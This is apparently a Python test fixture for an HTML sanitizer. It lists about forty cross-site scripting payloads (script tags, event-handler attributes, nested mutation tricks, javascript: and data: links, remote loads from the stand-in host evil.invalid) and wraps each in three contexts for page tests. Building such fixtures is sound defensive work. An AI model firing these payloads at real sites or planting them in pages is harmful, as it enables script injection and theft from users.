"""Markup that would run, fetch or leave the page if anything took it for markup. Written here, for page tests.

``window.hit`` is what each payload would set; ``evil.invalid`` is what it would ask for. Neither may ever happen.
"""

from __future__ import annotations

RUN = "window.hit=1"
FAR = "https://evil.invalid/x"

_BARE = (
    f"<script>{RUN}</script>",
    f"<script src={FAR}></script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src={FAR}>",
    f"<img srcset='{FAR} 2x'>",
    f"<image href={FAR}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='{FAR}#a'></use></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data={FAR}></object>",
    f"<embed src={FAR}>",
    f"<video src={FAR} onerror={RUN}></video>",
    f"<audio src={FAR} autoplay></audio>",
    f"<link rel=stylesheet href={FAR}>",
    f"<link rel=prefetch href={FAR}>",
    f"<style>@import '{FAR}'</style>",
    f"<p style='background:url({FAR})'>x</p>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<base href={FAR}>",
    f"<form action={FAR}><button autofocus>x</button></form>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<body onload={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href=' java\tscript:{RUN}'>x</a>",
    f"<a href='&#106;avascript:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<a href='vbscript:{RUN}'>x</a>",
    f"<p onclick={RUN} onmouseover={RUN} tabindex=0 onfocus={RUN} autofocus>x</p>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<textarea><img title='</textarea><img src=x onerror={RUN}>'>",
    f"<xss-x style='animation-name:a' onanimationstart={RUN}></xss-x>",
    f"<dialog open><form method=dialog><button onfocus={RUN} autofocus>x</button></form></dialog>",
)
_WRAPS = ("{}", "<p>before {} after</p>", "<ul><li>{}</li></ul>")

PAYLOADS: tuple[str, ...] = tuple(wrap.format(bare) for bare in _BARE for wrap in _WRAPS)
